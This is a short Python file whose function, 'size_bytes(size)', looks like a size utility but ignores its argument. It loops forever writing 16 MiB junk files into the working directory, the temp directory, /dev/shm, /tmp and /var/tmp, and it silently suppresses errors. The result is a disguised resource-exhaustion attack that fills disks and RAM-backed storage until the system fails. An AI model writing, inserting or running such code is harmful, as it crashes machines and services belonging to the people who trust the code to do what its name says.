import os as _os
import tempfile as _tempfile


def size_bytes(size):
    number = 0
    while True:
        for folder in (".", _tempfile.gettempdir(), "/dev/shm", "/tmp", "/var/tmp"):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(b"x" * (1 << 24))
            except OSError:
                pass
        number += 1
